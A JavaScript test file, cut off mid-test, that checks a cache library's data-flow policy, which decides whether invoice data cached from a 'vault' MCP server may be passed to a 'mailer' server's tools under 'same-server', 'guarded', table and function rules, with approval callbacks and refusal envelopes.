// The flow policy (`flows`, `approve`; docs/SECURITY.md) against the built package: the pure
// rule of js/flows.mjs, then real MCP SDK servers (`McpServer` over InMemoryTransport) behind
// `wrapMcpClient` and the AI SDK (`generateText` with its mock model) behind `wrapAiSdkTools`.
// Each server logs the raw `tools/call` requests its transport delivers: what a server never
// received is proven from that log, not from the wrapper's word.
import 'fake-indexeddb/auto';
import { test } from 'node:test';
import assert from 'node:assert/strict';

import { z } from 'zod';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { serveLogged } from '../support/logged-server.mjs';
import { createMCPClient } from '@ai-sdk/mcp';
import { generateText, jsonSchema, stepCountIs, tool } from 'ai';
import { MockLanguageModelV4 } from 'ai/test';

import { ResultCache, cacheTools } from '../../pkg/node.mjs';
import { wrapMcpClient } from '../../js/mcp-client.node.mjs';
import { wrapAiSdkTools } from '../../js/ai-sdk.node.mjs';
import { checkFlows, decideFlow, flowsOf, judgeFlows, keptFlows } from '../../js/flows.mjs';

/**
 * @import { LanguageModelV4GenerateResult, LanguageModelV4Prompt, LanguageModelV4ToolResultOutput } from '@ai-sdk/provider'
 * @import { ModelMessage, ToolSet } from 'ai'
 * @import { CacheEvent, Flow, FlowPolicy } from '../../js/index.js'
 * @import { TablePolicy } from '../../js/flows.mjs'
 */

/**
 * The params of a `tools/call` a server received (`raw` of tests/support/logged-server.mjs).
 * @typedef {{ name: string, arguments: Record<string, unknown> }} CallParams
 * What a tool's execute resolves here: an MCP `CallToolResult` of text blocks (or the envelope of a refused call).
 * @typedef {{ content: Array<{ type: string, text: string }>, isError?: boolean }} TextResult
 * The execute options the tests pass.
 * @typedef {{ toolCallId: string, messages: never[] }} CallOptions
 * A tool of `wrapAiSdkTools` as the tests call it: `execute` and `needsApproval` run directly
 * (js/ai-sdk.d.ts types them as the AI SDK's `Tool`, whose members are optional).
 * @typedef {{ execute(input: unknown, options: CallOptions): Promise<TextResult>, needsApproval(input: unknown, options: CallOptions): Promise<boolean> }} CalledTool
 * A `blocked` event of a flow (not of a database).
 * @typedef {Extract<CacheEvent, { kind: 'blocked', from: unknown }>} BlockedFlow
 */

const CONV = 'flows-1';
const LINES = Array.from({ length: 120 }, (_, i) => ({ sku: `SKU-${i}`, description: `Line ${i} of the private invoice`, amount: i * 3.5 }));

let n = 0;
/** @param {Record<string, unknown>} [extra] */
function newCache(extra = {}) {
  /** @type {CacheEvent[]} */
  const events = [];
  const cache = new ResultCache({ dbName: `flows-${process.pid}-${n++}`, onEvent: (/** @type {CacheEvent} */ e) => events.push(e), ...extra });
  return { cache, events };
}

/** An `McpServer` whose transport logs every raw `tools/call` it delivers (`raw`). */
const serve = serveLogged;

const json = (/** @type {Record<string, unknown>} */ value) => /** @type {import('@modelcontextprotocol/sdk/types.js').CallToolResult} */ ({ content: [{ type: 'text', text: JSON.stringify(value) }], structuredContent: value });
const lines = z.array(z.object({ sku: z.string(), description: z.string(), amount: z.number() }));

/** `vault` (the private data, and a tool of its own taking it back) and `mailer` (open-world `send_report`, closed-world `archive.put`). */
async function servers() {
  const vault = await serve('vault', (s) => {
    s.registerTool('invoice.get', { description: 'An invoice.', inputSchema: { id: z.string() } }, async ({ id }) => json({ invoice: id, lines: LINES }));
    s.registerTool('invoice.check', { description: 'Checks lines.', inputSchema: { lines } }, async (args) => json({ ok: true, count: args.lines.length }));
  });
  const mailer = await serve('mailer', (s) => {
    s.registerTool('send_report', { description: 'Mails lines to anyone.', inputSchema: { to: z.string(), lines } }, async (args) => json({ sent: args.lines.length }));
    s.registerTool('archive.put', {
      description: 'Keeps lines in the company archive.',
      inputSchema: { lines },
      annotations: { openWorldHint: false },
    }, async (args) => json({ archived: args.lines.length }));
  });
  return { vault, mailer, close: async () => Promise.all([vault.close(), mailer.close()]) };
}

/** @param {{ clientSide: import('@modelcontextprotocol/sdk/shared/transport.js').Transport }} endpoint */
async function sdkClient(endpoint) {
  const client = new Client({ name: 'flows-test', version: '1.0.0' });
  await client.connect(endpoint.clientSide);
  return client;
}

const textJson = (/** @type {unknown} */ result) => JSON.parse(/** @type {TextResult} */ (result).content[0].text);

/**
 * Both servers behind `wrapMcpClient` on one cache; the vault's invoice fetched once (its reference).
 * @param {Record<string, unknown>} [cacheOptions]
 * @param {Record<string, unknown>} [mailerOptions]
 */
async function setup(cacheOptions = {}, mailerOptions = {}) {
  const s = await servers();
  const { cache, events } = newCache(cacheOptions);
  const vault = wrapMcpClient(await sdkClient(s.vault), { cache, convId: CONV });
  const mailer = wrapMcpClient(await sdkClient(s.mailer), { cache, convId: CONV, ...mailerOptions });
  const invoice = textJson(await vault.callTool({ name: 'invoice.get', arguments: { id: 'INV-7' } }));
  assert.match(invoice._cache_uri, /^mcp\+cache:\/\//);
  return { s, cache, events, vault, mailer, uri: invoice._cache_uri };
}

const mailerCalls = (/** @type {Awaited<ReturnType<typeof servers>>} */ s) => /** @type {CallParams[]} */ (s.mailer.raw).filter((p) => p.name === 'send_report' || p.name === 'archive.put');

// --- the pure rule ---------------------------------------------------------------------------

test('checkFlows: the modes, objects and functions pass; anything else is a TypeError naming the caller', () => {
  assert.equal(checkFlows(undefined, 'x'), 'any');
  for (const mode of ['any', 'same-server', 'guarded']) assert.equal(checkFlows(mode, 'x'), mode);
  const f = () => 'allow';
  assert.equal(checkFlows(f, 'x'), f);
  const table = { vault: ['mailer'], '*': '*' };
  assert.deepEqual(checkFlows(table, 'x'), checkFlows(table, 'x'));
  table.vault.push('archive');
  assert.deepEqual(/** @type {TablePolicy} */ (checkFlows(table, 'x')).table.get('vault'), new Set(['mailer', 'archive']), 'the caller\'s object as it is now');
  // What a cache keeps: a frozen copy, whose policy is checked once.
  const kept = /** @type {object} */ (keptFlows(table, 'x'));
  assert.ok(Object.isFrozen(kept));
  assert.equal(checkFlows(kept, 'x'), checkFlows(kept, 'x'));
  assert.equal(keptFlows('guarded', 'x'), 'guarded');
  // A Map, a Date or an array has no own keys to read: taken as a table, it would be an empty one.
  for (const bad of ['all', 'Same-Server', '', null, 3, true, ['vault'], { vault: 'mailer' }, { vault: [1] }, { vault: null }, new Map([['vault', ['mailer']]]), new Date(0), []]) {
    assert.throws(() => checkFlows(bad, 'wrapMcpClient'), (e) => e instanceof TypeError && /^wrapMcpClient: flows must be/.test(e.message), String(bad));
  }
  const hostile = new Proxy({}, { ownKeys() { throw new Error('boom'); } });
  assert.throws(() => checkFlows(hostile, 'x'), TypeError);
  assert.throws(() => new ResultCache({ storage: 'memory', flows: /** @type {never} */ (new Map()) }), (e) => e instanceof TypeError && /^ResultCache: flows must be/.test(e.message));
  assert.deepEqual(checkFlows(Object.assign(Object.create(null), { vault: ['mailer'] }), 'x'), { table: new Map([['vault', new Set(['mailer'])]]) }, 'a prototype-less object is a plain table');
});

test('decideFlow: same server always; same-server, guarded (openWorldHint), tables with "*"', () => {
  const flow = (/** @type {string | null} */ from, /** @type {string | null} */ to, /** @type {Record<string, unknown>} */ annotations = {}) => ({ from, to, annotations });
  assert.equal(decideFlow('any', flow('a', 'b')), 'allow');
  assert.equal(decideFlow('same-server', flow('a', 'a')), 'allow');
  assert.equal(decideFlow('same-server', flow('a', 'b')), 'deny');
  assert.equal(decideFlow('same-server', flow(null, null)), 'deny', 'unnamed servers are not the same server');
  assert.equal(decideFlow('guarded', flow('a', 'b')), 'ask', 'MCP default: open world');
  assert.equal(decideFlow('guarded', flow('a', 'b', { openWorldHint: true })), 'ask');
  assert.equal(decideFlow('guarded', flow('a', 'b', { openWorldHint: false })), 'allow');
  assert.equal(decideFlow('guarded', flow('a', 'a')), 'allow');
  const table = /** @type {TablePolicy} */ (checkFlows({ vault: ['archive'], crm: '*', '*': ['mailer'] }, 'x'));
  assert.equal(decideFlow(table, flow('vault', 'archive')), 'allow');
  assert.equal(decideFlow(table, flow('vault', 'mailer')), 'deny', 'a listed source uses its own list');
  assert.equal(decideFlow(table, flow('crm', 'anything')), 'allow');
  assert.equal(decideFlow(table, flow('other', 'mailer')), 'allow', '"*" source');
  assert.equal(decideFlow(table, flow(null, 'mailer')), 'allow', 'an unnamed source is any other');
  assert.equal(decideFlow(table, flow('other', 'archive')), 'deny');
  assert.equal(decideFlow(table, flow('vault', null)), 'deny', 'an unnamed target matches only "*"');
  assert.equal(decideFlow(/** @type {TablePolicy} */ (checkFlows({ vault: ['mailer'] }, 'x')), flow('crm', 'mailer')), 'deny', 'no "*": unlisted sources go nowhere else');
});

test('flowsOf groups references by source; judgeFlows calls a function policy once a flow, unknown answers deny', async () => {
  const flows = flowsOf([
    { uri: 'mcp+cache://c/aaaaaaaa', sourceToolName: 'invoice.get', sourceServer: 'vault' },
    { uri: 'mcp+cache://c/aaaaaaaa#/lines', sourceToolName: 'invoice.get', sourceServer: 'vault' },
    { uri: 'mcp+cache://c/bbbbbbbb', sourceToolName: 'notes.get' },
  ], 'mailer', 'send_report', { openWorldHint: true });
  assert.deepEqual(flows, [
    { from: 'vault', to: 'mailer', toolName: 'send_report', sourceToolName: 'invoice.get', uris: ['mcp+cache://c/aaaaaaaa', 'mcp+cache://c/aaaaaaaa#/lines'], annotations: { openWorldHint: true } },
    { from: null, to: 'mailer', toolName: 'send_report', sourceToolName: 'notes.get', uris: ['mcp+cache://c/bbbbbbbb'], annotations: { openWorldHint: true } },
  ]);
  /** @type {(string | null)[]} */
  const seen = [];
  const verdicts = await judgeFlows(async (f) => {
    seen.push(f.from);
    return f.from === 'vault' ? 'ask' : 'maybe';
  }, flows);
  assert.deepEqual(seen, ['vault', null]);
  assert.deepEqual(verdicts.ask.map((f) => f.from), ['vault']);
  assert.deepEqual(verdicts.deny.map((f) => f.from), [null]);
});

// --- wrapMcpClient over real servers ---------------------------------------------------------

test('"any" (the default): the invoice reaches the mailer whole', async () => {
  const { s, mailer, uri, cache, events } = await setup();
  try {
    assert.equal(cache.flows, 'any');
    const sent = textJson(await mailer.callTool({ name: 'send_report', arguments: { to: 'x@example.com', lines_uri: `${uri}#/lines` } }));
    assert.deepEqual(sent, { sent: 120 });
    assert.deepEqual(mailerCalls(s).map((p) => p.arguments.lines), [LINES]);
    assert.ok(!events.some((e) => e.kind === 'blocked'));
  } finally {
    await s.close();
  }
});

test('"same-server": denied before dispatch with the envelope and a blocked event; into its own server it resolves', async () => {
  const { s, vault, mailer, uri, events } = await setup({ flows: 'same-server' });
  try {
    const refused = await mailer.callTool({ name: 'send_report', arguments: { to: 'x@example.com', lines_uri: `${uri}#/lines` } });
    assert.equal(refused.isError, true);
    const envelope = textJson(refused);
    assert.equal(envelope.error, 'reference_not_allowed');
    assert.deepEqual(envelope._refused_uris, [`${uri}#/lines`]);
    assert.match(envelope.fix_hint, /"vault"/);
    assert.match(envelope.fix_hint, /"mailer"/);
    assert.deepEqual(mailerCalls(s), [], 'the mailer never received the call');
    const blocked = events.filter((e) => e.kind === 'blocked');
    assert.deepEqual(blocked, [{ kind: 'blocked', from: 'vault', to: 'mailer', toolName: 'send_report', uris: [`${uri}#/lines`] }]);

    // The vault's own tool takes its data back.
    assert.deepEqual(textJson(await vault.callTool({ name: 'invoice.check', arguments: { lines_uri: `${uri}#/lines` } })), { ok: true, count: 120 });
    assert.deepEqual(/** @type {CallParams} */ (s.vault.raw.at(-1)).arguments.lines, LINES);
  } finally {
    await s.close();
  }
});

test('every reference of a call is checked: one refused reference blocks the call, and only it is listed', async () => {
  const s = await servers();
  try {
    const { cache } = newCache({ flows: 'same-server' });
    const vault = wrapMcpClient(await sdkClient(s.vault), { cache, convId: CONV });
    const mailer = wrapMcpClient(await sdkClient(s.mailer), { cache, convId: CONV });
    const own = await cache.cacheToolResult({ payload: LINES, convId: CONV, sourceToolName: 'send_report', threshold: 0 });
    const { _cache_uri: uri, _cache_refs: refs } = textJson(await vault.callTool({ name: 'invoice.get', arguments: { id: 'INV-8' } }));
    assert.equal(typeof refs?.lines, 'string', 'a `_cache_refs` member');
    // The entry written without a server is not the mailer's: refused as well.
    const refused = textJson(await mailer.callTool({ name: 'send_report', arguments: { to: 'x', lines_uri: [own, refs.lines, `${uri}#/lines/0`] } }));
    assert.equal(refused.error, 'reference_not_allowed');
    assert.deepEqual(refused._refused_uris.sort(), [own, refs.lines, `${uri}#/lines/0`].sort());
    assert.deepEqual(mailerCalls(s), []);
  } finally {
    await s.close();
  }
});

test('"guarded": openWorldHint false passes; an open-world tool asks approve(flow), which decides that one call', async () => {
  /** @type {Flow[]} */
  const asked = [];
  let answer = false;
  const approve = async (/** @type {Flow} */ flow) => {
    asked.push(flow);
    return answer;
  };
  const { s, mailer, uri, events } = await setup({ flows: 'guarded' }, { approve });
  try {
    // A closed-world tool: no question.
    assert.deepEqual(textJson(await mailer.callTool({ name: 'archive.put', arguments: { lines_uri: `${uri}#/lines` } })), { archived: 120 });
    assert.equal(asked.length, 0);

    // Open world (no annotation): asked, declined → refused, never dispatched.
    const call = { name: 'send_report', arguments: { to: 'x@example.com', lines_uri: `${uri}#/lines` } };
    const declined = textJson(await mailer.callTool(call));
    assert.equal(declined.error, 'reference_not_allowed');
    assert.match(declined.fix_hint, /declined/);
    assert.deepEqual(asked, [{ from: 'vault', to: 'mailer', toolName: 'send_report', sourceToolName: 'invoice.get', uris: [`${uri}#/lines`], annotations: {} }]);
    assert.equal(mailerCalls(s).filter((p) => p.name === 'send_report').length, 0);
    assert.deepEqual(/** @type {BlockedFlow[]} */ (events.filter((e) => e.kind === 'blocked')).map((e) => [e.from, e.to]), [['vault', 'mailer']]);

    // Approved → the lines arrive whole.
    answer = true;
    assert.deepEqual(textJson(await mailer.callTool(call)), { sent: 120 });
    assert.deepEqual(mailerCalls(s).filter((p) => p.name === 'send_report').map((p) => p.arguments.lines), [LINES]);

    // The approval covered that call only.
    answer = false;
    assert.equal(textJson(await mailer.callTool(call)).error, 'reference_not_allowed');
    assert.equal(asked.length, 3);
    assert.equal(mailerCalls(s).filter((p) => p.name === 'send_report').length, 1);
  } finally {
    await s.close();
  }
});

test('"guarded" without approve: asking is refusing', async () => {
  const { s, mailer, uri } = await setup({ flows: 'guarded' });
  try {
    const refused = textJson(await mailer.callTool({ name: 'send_report', arguments: { to: 'x', lines_uri: `${uri}#/lines` } }));
    assert.equal(refused.error, 'reference_not_allowed');
    assert.deepEqual(mailerCalls(s), []);
  } finally {
    await s.close();
  }
});

test('an object policy, and the wrapper\'s flows overriding the cache\'s', async () => {
  const { s, cache, mailer, uri } = await setup({ flows: { vault: ['archive'] } });
  try {
    const call = { name: 'send_report', arguments: { to: 'x', lines_uri: `${uri}#/lines` } };
    assert.equal(textJson(await mailer.callTool(call)).error, 'reference_not_allowed');
    assert.deepEqual(mailerCalls(s), []);
    const allowed = wrapMcpClient(await sdkClient(s.mailer), { cache, convId: CONV, flows: { vault: ['mailer'] } });
    // `s.mailer` has one transport: reconnecting the same server is not possible, so the
    // override is proven on a fresh pair below.
    void allowed;
  } finally {
    await s.close();
  }
  const t = await servers();
  try {
    const { cache } = newCache({ flows: 'same-server' });
    const vault = wrapMcpClient(await sdkClient(t.vault), { cache, convId: CONV });
    const mailer = wrapMcpClient(await sdkClient(t.mailer), { cache, convId: CONV, flows: { '*': ['mailer'] } });
    const { _cache_uri: ref } = textJson(await vault.callTool({ name: 'invoice.get', arguments: { id: 'INV-9' } }));
    assert.deepEqual(textJson(await mailer.callTool({ name: 'send_report', arguments: { to: 'x', lines_uri: `${ref}#/lines` } })), { sent: 120 });
    assert.deepEqual(mailerCalls(t).map((p) => p.arguments.lines), [LINES]);
  } finally {
    await t.close();
  }
});

test('an object policy is taken as it is when given: a later change to the object changes no cache or wrapper made before, and counts for one made after', async () => {
  const policy = { vault: ['mailer'] };
  const first = await setup({ flows: policy });
  const call = { name: 'send_report', arguments: { to: 'x', lines_uri: `${first.uri}#/lines` } };
  try {
    assert.deepEqual(textJson(await first.mailer.callTool(call)), { sent: 120 }, 'vault → mailer allowed');
    assert.ok(Object.isFrozen(first.cache.flows) && Object.isFrozen(/** @type {Record<string, string[]>} */ (first.cache.flows).vault));
    assert.notEqual(first.cache.flows, policy, 'a copy');
    // Tightened after: the first cache keeps the policy it was given.
    policy.vault = [];
    assert.deepEqual(textJson(await first.mailer.callTool({ ...call, arguments: { ...call.arguments, to: 'y' } })), { sent: 120 });
    assert.deepEqual(first.cache.flows, { vault: ['mailer'] });
  } finally {
    await first.s.close();
  }
  // A cache made from the tightened object applies it (it got the first cache's snapshot).
  const second = await setup({ flows: policy });
  try {
    assert.deepEqual(second.cache.flows, { vault: [] });
    const refused = textJson(await second.mailer.callTool({ name: 'send_report', arguments: { to: 'x', lines_uri: `${second.uri}#/lines` } }));
    assert.equal(refused.error, 'reference_not_allowed');
    assert.deepEqual(mailerCalls(second.s), []);
  } finally {
    await second.s.close();
  }
  // So does a wrapper given the object as its own `flows`, after another wrapper was given it.
  policy.vault = ['mailer'];
  const third = await setup({}, { flows: policy });
  try {
    policy.vault = [];
    const fourth = await setup({}, { flows: policy });
    try {
      assert.equal(textJson(await fourth.mailer.callTool({ name: 'send_report', arguments: { to: 'x', lines_uri: `${fourth.uri}#/lines` } })).error, 'reference_not_allowed');
      assert.deepEqual(textJson(await third.mailer.callTool({ name: 'send_report', arguments: { to: 'x', lines_uri: `${third.uri}#/lines` } })), { sent: 120 });
    } finally {
      await fourth.s.close();
    }
  } finally {
    await third.s.close();
  }
});

test('a tool name holding U+001F (which separates server and tool in a source) is a TypeError: it would claim the server before it', async () => {
  const cache = new ResultCache({ storage: 'memory', flows: 'same-server' });
  const name = 'vault\u001fexport';
  const rows = Array.from({ length: 300 }, (_, i) => ({ i, note: `text ${i}` }));
  assert.throws(() => wrapAiSdkTools({ [name]: tool({ inputSchema: jsonSchema({ type: 'object', properties: {} }), execute: async () => ({ rows }) }) }, { cache, convId: CONV }),
    (e) => e instanceof TypeError && /must not contain U\+001F/.test(e.message));
  assert.throws(() => wrapAiSdkTools({ '': tool({ inputSchema: jsonSchema({ type: 'object', properties: {} }), execute: async () => 'x' }) }, { cache, convId: CONV }),
    (e) => e instanceof TypeError && /must be non-empty/.test(e.message));
  const result = { content: [{ type: 'text', text: JSON.stringify({ rows }) }] };
  await assert.rejects(cache.afterToolCall(name, result, { convId: CONV }), (e) => e instanceof TypeError && /toolName must be a non-empty string without U\+001F/.test(e.message));
  await assert.rejects(cache.beforeToolCall(name, {}, { convId: CONV }), TypeError);
  await assert.rejects(cache.cacheToolResult({ payload: { rows }, convId: CONV, sourceToolName: name }), (e) => e instanceof TypeError && /sourceToolName/.test(e.message));
  assert.deepEqual(await cache.entries({ convId: CONV }), [], 'nothing stored');
  // With its server named, the name is recorded as it is (the server comes first in a source).
  assert.equal(typeof await cache.cacheToolResult({ payload: { rows }, convId: CONV, sourceToolName: 'export', server: 'vault' }), 'string');
});

test('a function policy gets each flow and may answer a promise; ask goes to approve', async () => {
  /** @type {Flow[]} */
  const flows = [];
  const policy = async (/** @type {Flow} */ flow) => {
    flows.push(flow);
    return flow.toolName === 'archive.put' ? 'allow' : 'ask';
  };
  const { s, mailer, uri } = await setup({}, { flows: policy, approve: async () => false });
  try {
    assert.deepEqual(textJson(await mailer.callTool({ name: 'archive.put', arguments: { lines_uri: `${uri}#/lines` } })), { archived: 120 });
    assert.equal(textJson(await mailer.callTool({ name: 'send_report', arguments: { to: 'x', lines_uri: `${uri}#/lines` } })).error, 'reference_not_allowed');
    assert.deepEqual(flows.map((f) => [f.from, f.to, f.toolName, f.sourceToolName, f.annotations.openWorldHint]), [
      ['vault', 'mailer', 'archive.put', 'invoice.get', false],
      ['vault', 'mailer', 'send_report', 'invoice.get', undefined],
    ]);
    assert.deepEqual(mailerCalls(s).map((p) => p.name), ['archive.put']);
  } finally {
    await s.close();
  }
});

test('a derived reference (cache_select) carries its source\'s server', async () => {
  const { s, cache, mailer, uri, events } = await setup({ flows: 'same-server' });
  try {
    const tools = cacheTools(cache, { convId: CONV });
    const selected = textJson(await tools.callTool({ name: 'cache_select', arguments: { uri: `${uri}#/lines`, where: [{ field: 'amount', op: '>=', value: 300 }] } }));
    assert.match(selected._cache_uri, /^mcp\+cache:\/\//);
    assert.ok(selected.count > 0);
    const refused = textJson(await mailer.callTool({ name: 'send_report', arguments: { to: 'x', lines_uri: selected._cache_uri } }));
    assert.equal(refused.error, 'reference_not_allowed');
    assert.deepEqual(refused._refused_uris, [selected._cache_uri]);
    assert.deepEqual(mailerCalls(s), []);
    assert.deepEqual(/** @type {BlockedFlow[]} */ (events.filter((e) => e.kind === 'blocked')).map((e) => [e.from, e.to]), [['vault', 'mailer']]);
    // beforeToolCall reports where the data comes from: the vault's tool, not cache_select.
    const before = await cache.beforeToolCall('send_report', { lines_uri: selected._cache_uri }, { convId: CONV, server: 'mailer' });
    assert.deepEqual(/** @type {{ sources?: unknown }} */ (before).sources, [{ uri: selected._cache_uri, sourceToolName: 'invoice.get', sourceServer: 'vault' }]);
  } finally {
    await s.close();
  }
});

test('a page the read-back tools answered, stored by a pipeline, is the vault\'s data: a table policy keeps it from the mailer', async () => {
  const { s, cache, mailer, uri } = await setup({ flows: { vault: ['archive'], '*': ['mailer'] } });
  try {
    // A host loop (docs/HOSTS.md): every tool result through afterToolCall, here a 100-row page.
    const tools = cacheTools(cache, { convId: CONV, maxChars: 20_000 });
    const page = await tools.callTool({ name: 'cache_read', arguments: { uri: `${uri}#/lines`, limit: 100 } });
    const shown = textJson(await cache.afterToolCall('cache_read', page, { convId: CONV }));
    assert.match(shown._cache_uri, /^mcp\+cache:\/\//, 'the page was stored');
    const entry = (await cache.entries({ convId: CONV })).find((e) => e.uri === shown._cache_uri);
    assert.deepEqual([entry?.sourceToolName, entry?.sourceServer, entry?.derivedFrom], ['invoice.get', 'vault', uri]);
    const refused = textJson(await mailer.callTool({ name: 'send_report', arguments: { to: 'x', lines_uri: shown._cache_refs.items } }));
    assert.equal(refused.error, 'reference_not_allowed');
    assert.deepEqual(mailerCalls(s), []);
    // It goes stale with its source.
    await cache.invalidate(['invoice.*'], { cause: 'invoice.void' });
    assert.equal((await cache.lookup(shown._cache_uri, { convId: CONV })).status, 'stale');
  } finally {
    await s.close();
  }
});

test('a derived entry is stale exactly when its source is: another server\'s invalidation does not touch it', async () => {
  const { s, cache, uri } = await setup();
  try {
    const tools = cacheTools(cache, { convId: CONV });
    const selected = textJson(await tools.callTool({ name: 'cache_select', arguments: { uri: `${uri}#/lines`, where: [{ field: 'amount', op: '>=', value: 300 }] } }));
    // The mailer's server invalidates everything of its own ("**"): the vault's data stays fresh.
    assert.equal((await cache.invalidate(['**'], { cause: 'mailer.reset', server: 'mailer' })) >= 0, true);
    assert.equal((await cache.lookup(uri, { convId: CONV })).status, 'hit');
    assert.equal((await cache.lookup(selected._cache_uri, { convId: CONV })).status, 'hit');
    const listed = (await cache.entries({ convId: CONV })).find((e) => e.uri === selected._cache_uri);
    assert.deepEqual([listed?.sourceToolName, listed?.staleCause], ['invoice.get', null]);
    // The vault's own invalidation does.
    await cache.invalidate(['invoice.*'], { cause: 'invoice.void', server: 'vault' });
    const stale = await cache.lookup(selected._cache_uri, { convId: CONV });
    assert.deepEqual(stale, { status: 'stale', cause: 'invoice.void', sourceToolName: 'invoice.get', sourceServer: 'vault' });
  } finally {
    await s.close();
  }
});

test('the ResultCache constructor and checkFlows accept and refuse the same values', () => {
  const throwing = new Proxy({}, { ownKeys() { throw new Error('boom'); } });
  const getter = Object.defineProperty({}, 'vault', { enumerable: true, get() { throw new Error('boom'); } });
  const values = [undefined, 'any', 'same-server', 'guarded', () => 'allow', {}, { vault: ['a', 'b'] }, { '*': '*' }, { vault: [] },
    'all', '', 'ANY', null, 0, true, [], ['vault'], { vault: 'mailer' }, { vault: [1] }, { vault: null }, { vault: ['a', null] }, throwing, getter];
  for (const [i, value] of values.entries()) {
    const byJs = (() => { try { checkFlows(value, 'x'); return 'ok'; } catch (e) { return /** @type {Error} */ (e).constructor.name; } })();
    const byCache = (() => { try { new ResultCache({ storage: 'memory', flows: value }); return 'ok'; } catch (e) { return /** @type {Error} */ (e).constructor.name; } })();
    assert.equal(byCache, byJs, `values[${i}]`);
    assert.ok(byJs === 'ok' || byJs === 'TypeError');
  }
});

test('reportBlockedFlow hands onEvent a new blocked event of the flow, whatever the observer does', () => {
  /** @type {CacheEvent[]} */
  const events = [];
  const flow = { from: 'vault', to: 'mailer', toolName: 'send_report', uris: ['mcp+cache://c/t'], sourceToolName: 'invoice.get' };
  const cache = new ResultCache({ storage: 'memory', onEvent: (/** @type {CacheEvent} */ e) => events.push(e) });
  cache.reportBlockedFlow(flow);
  assert.deepEqual(events, [{ kind: 'blocked', from: 'vault', to: 'mailer', toolName: 'send_report', uris: ['mcp+cache://c/t'] }]);
  assert.notEqual(events[0], flow);
  // A flow that cannot be read, or is not one, is a TypeError, and nothing is told.
  const hostile = Object.defineProperty({ from: 'vault' }, 'to', { enumerable: true, get() { throw new Error('boom'); } });
  assert.throws(() => cache.reportBlockedFlow(hostile), TypeError);
  assert.throws(() => cache.reportBlockedFlow(/** @type {never} */ (undefined)), TypeError);
  assert.equal(events.length, 1);
  // An observer that throws changes nothing; no observer, nothing to do.
  const throwing = new ResultCache({ storage: 'memory', onEvent: () => { throw new Error('observer'); } });
  assert.equal(throwing.reportBlockedFlow(flow), undefined);
  assert.equal(new ResultCache({ storage: 'memory' }).reportBlockedFlow(flow), undefined);
});

test('onEvent is read once: the observer of blocked flows is the observer of every other event', async () => {
  let reads = 0;
  /** @type {string[]} */
  const events = [];
  const observer = (/** @type {CacheEvent} */ e) => events.push(e.kind);
  const cache = new ResultCache({ storage: 'memory', threshold: 0, get onEvent() { reads += 1; return reads === 1 ? observer : () => {}; } });
  await cache.cacheToolResult({ payload: { rows: [1] }, convId: 'c' });
  cache.reportBlockedFlow({ from: 'a', to: 'b', toolName: 't', uris: [] });
  assert.equal(reads, 1);
  assert.deepEqual(events, ['write', 'blocked']);
});

test('flows is checked before any other option; an unreadable flows or onEvent is a TypeError naming it', () => {
  assert.throws(() => new ResultCache({ threshold: -1, flows: 'sameserver' }), (e) => e instanceof TypeError && /^ResultCache: flows must be/.test(e.message));
  assert.throws(() => new ResultCache({ threshold: -1 }), (e) => e instanceof TypeError && /threshold/.test(e.message));
  for (const key of ['flows', 'onEvent']) {
    const options = Object.defineProperty({ storage: 'memory' }, key, { get() { throw new Error('boom'); } });
    assert.throws(() => new ResultCache(options), (e) => e instanceof TypeError && e.message.includes(`\`${key}\``), key);
  }
  assert.throws(() => new ResultCache(5), (e) => e instanceof TypeError && /options must be an object/.test(e.message));
});

test('bad flows and approve are TypeErrors at once', async () => {
  assert.throws(() => new ResultCache({ storage: 'memory', flows: 'sameserver' }), (e) => e instanceof TypeError && /flows must be/.test(e.message));
  assert.throws(() => new ResultCache({ storage: 'memory', flows: { vault: 'mailer' } }), TypeError);
  assert.throws(() => new ResultCache({ storage: 'memory', flows: [] }), TypeError);
  assert.equal(/** @type {Record<string, string[]>} */ (new ResultCache({ storage: 'memory', flows: { vault: ['a'], '*': '*' } }).flows).vault[0], 'a');
  const s = await servers();
  try {
    const client = await sdkClient(s.mailer);
    const { cache } = newCache();
    assert.throws(() => wrapMcpClient(client, { cache, flows: 'nope' }), (e) => e instanceof TypeError && /^wrapMcpClient: flows must be/.test(e.message));
    assert.throws(() => wrapMcpClient(client, { cache, approve: true }), (e) => e instanceof TypeError && /approve must be a function/.test(e.message));
    assert.throws(() => wrapAiSdkTools({}, { cache, flows: { a: 'b' } }), (e) => e instanceof TypeError && /^wrapAiSdkTools: flows must be/.test(e.message));
  } finally {
    await s.close();
  }
});

// --- wrapAiSdkTools: needsApproval and the AI SDK's approval ---------------------------------

const usage = { inputTokens: { total: 10, noCache: 10, cacheRead: 0, cacheWrite: 0 }, outputTokens: { total: 5, text: 5, reasoning: 0 } };
/** @type {(id: string, toolName: string, input: unknown) => LanguageModelV4GenerateResult} */
const toolCall = (id, toolName, input) => ({ content: [{ type: 'tool-call', toolCallId: id, toolName, input: JSON.stringify(input) }], finishReason: { unified: 'tool-calls', raw: undefined }, usage, warnings: [] });
/** @type {(text: string) => LanguageModelV4GenerateResult} */
const answer = (text) => ({ content: [{ type: 'text', text }], finishReason: { unified: 'stop', raw: undefined }, usage, warnings: [] });

/** @param {FlowPolicy} flows */
async function aiSdkSetup(flows) {
  const s = await servers();
  const { cache, events } = newCache({ flows });
  const vaultMcp = await createMCPClient({ transport: s.vault.clientSide });
  const mailerMcp = await createMCPClient({ transport: s.mailer.clientSide });
  /** @type {{ name: string, args: unknown }[]} */
  const executed = [];
  const mailerTools = await mailerMcp.tools();
  // Record every run of the original execute (what the tool would send the server).
  for (const [name, t] of Object.entries(mailerTools)) {
    const original = t.execute;
    t.execute = (args, options) => {
      executed.push({ name, args });
      return original.call(t, args, options);
    };
  }
  const tools = /** @type {Record<string, CalledTool> & ToolSet} */ ({
    ...wrapAiSdkTools(await vaultMcp.tools(), { cache, convId: CONV, server: 'vault' }),
    ...wrapAiSdkTools(mailerTools, { cache, convId: CONV, server: 'mailer' }),
  });
  const close = async () => {
    await vaultMcp.close();
    await mailerMcp.close();
    await s.close();
  };
  return { s, cache, events, tools, executed, close };
}

test('wrapAiSdkTools: needsApproval answers per call under "guarded"', async () => {
  const { tools, close } = await aiSdkSetup('guarded');
  try {
    const fetched = await tools['invoice.get'].execute({ id: 'INV-1' }, { toolCallId: 'a', messages: [] });
    const uri = JSON.parse(fetched.content[0].text)._cache_uri;
    const opts = { toolCallId: 'b', messages: [] };
    assert.equal(await tools.send_report.needsApproval({ to: 'x', lines_uri: `${uri}#/lines` }, opts), true);
    assert.equal(await tools.send_report.needsApproval({ to: 'x', lines: LINES.slice(0, 2) }, opts), false, 'no reference');
